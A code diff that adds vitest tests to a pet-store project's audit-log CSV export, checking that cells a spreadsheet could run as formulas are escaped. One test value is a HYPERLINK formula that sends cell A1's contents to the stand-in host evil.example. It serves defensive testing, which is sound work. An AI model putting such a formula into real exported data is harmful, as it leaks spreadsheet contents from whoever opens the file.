@@ -1,9 +1,11 @@
 /**
  * The audit CSV stream (src/server/audit-csv.ts): it reads a batch only when the reader asks for more, fails
  * (so the download breaks off) when reading a batch fails instead of ending short, stops reading when the
- * reader goes away, and writes the same lines whatever the batching.
+ * reader goes away, and writes the same lines whatever the batching. Every cell a spreadsheet could run as a
+ * formula is escaped, whatever follows its first character.
  */
 import type { AuditLogEntry } from "@petstore/core";
+import Papa from "papaparse";
 import { describe, expect, it } from "vitest";
 import { auditCsvLines, auditCsvStream } from "../../src/server/audit-csv";
 
@@ -55,5 +57,32 @@ describe("audit CSV stream", () => {
 
   it("fails the download when a batch cannot be read, rather than ending it short", async () => {
     await expect(text(auditCsvStream(batches(5, 10, 2)))).rejects.toThrow("connection lost");
+  });
+});
+
+describe("audit CSV formula escaping", () => {
+  const named = (entityName: string): AuditLogEntry => ({ ...entry(2), entityName });
+  const starts = ["=", "+", "-", "@", "\t", "\r"];
+  const follows = [
+    ["U+2028", "\u2028"],
+    ["U+2029", "\u2029"],
+    ["LF", "\n"],
+    ["CRLF", "\r\n"],
+    ["nothing", ""],
+    ["a formula holding U+2028", 'HYPERLINK("https://evil.example/?\u2028"&A1,"Open")'],
+  ];
+  const cases = starts.flatMap((start) => follows.map(([label, rest]) => [start, label, rest] as const));
+
+  it.each(cases)("escapes a cell starting with %j followed by %s", (start, _label, rest) => {
+    const value = `${start}${rest}`;
+    const [row] = Papa.parse<string[]>(auditCsvLines([named(value)]), { newline: "\r\n" }).data;
+    expect(row?.[6]).toBe(`'${value}`);
+  });
+
+  it("leaves other cells as they are", () => {
+    for (const value of ["Rex", "Rex=1", " =1", "\u2028=1", "'=1"]) {
+      const [row] = Papa.parse<string[]>(auditCsvLines([named(value)]), { newline: "\r\n" }).data;
+      expect(row?.[6]).toBe(value);
+    }
   });
 });
